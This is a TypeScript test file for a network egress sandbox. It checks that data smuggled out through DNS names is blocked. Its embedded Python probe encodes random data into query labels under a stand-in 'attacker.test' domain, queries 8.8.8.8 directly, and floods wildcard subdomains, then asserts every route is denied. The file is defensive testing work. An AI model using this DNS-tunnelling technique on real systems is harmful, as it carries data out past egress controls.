// Data in names. Source: CVE-2025-55284; NVIDIA/OpenShell #1169; dust #25991 (8.8.8.8); agentcage #176 (TXT).
import { expect } from 'vitest';
import { expectDenied, forEachTier, outcomes } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

const EVIL_SUFFIX = 'attacker.test';

forEachTier(
  'names carry nothing out: no forwarding, no odd labels, no flood under a wildcard',
  async (tier) => {
    await using box = new EgressBox(tier, { allow: [{ id: 'wild', host: '*.wild.test', paths: ['/**'] }] });
    const result = await box.probe(`
server = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
data = base64.b32encode(os.urandom(30)).decode().lower().rstrip('=')
for name, question, kind in (('evil', f'{data}.{EVIL}', 1), ('txt', f'api.wild.test', 16), ('txt-data', f'{data}.wild.test', 16),
                             ('null', 'api.wild.test', 10), ('any', LLM, 255)):
    attempt(name, lambda: dns_udp(server, question, kind))
attempt('google', lambda: dns_udp('8.8.8.8', f'x.{EVIL}', 16, 1))
question = dns_query(f'x.{EVIL}', 16)
attempt('google-tcp', lambda: talk(('8.8.8.8', 53), struct.pack('>H', len(question)) + question, 2)[5:10])
def reach(name):
    try:
        with secure(name, timeout=3) as link:
            link.sendall(head('GET', '/', ('Connection: close',), name))
            return verdict(drain(link))
    except OSError as error: return reason(error)
report('label', reach(f'{data}.wild.test'))
seen = [reach(f'n{at}.wild.test') for at in range(70)]
report('many', f'{sum(one.startswith("200") for one in seen)} passed')
control()
`);
    const seen = outcomes(result);
    expect(seen['evil']).toMatch(/^OK \(3, 0\)|E/);
    for (const name of ['txt', 'txt-data', 'null', 'any'])
      expect([name, seen[name]]).toEqual([name, expect.stringMatching(/, 0\)$/)]);
    // The gateway itself answers on port 53, whatever the address: no such name, no records.
    expect(seen['google-tcp']).toMatch(/^(?:E|OK b'.*\\x8[0-9]\\x00\\x01\\x00\\x00')/);
    expect(seen['label']).not.toMatch(/^200/);
    expect(Number(/^\d+/.exec(seen['many'] ?? '')?.[0])).toBeLessThanOrEqual(50);
    expect(seen['control']).toMatch(/^200 /);
    // The resolver saw names of rules alone, when a connection was made, and a bounded number of them.
    expect(box.asked.filter((name) => name.includes(EVIL_SUFFIX))).toEqual([]);
    expect(new Set(box.asked).size).toBeLessThanOrEqual(51);
    expectDenied(box, { rule: 'structural.data-in-name' });
  },
);
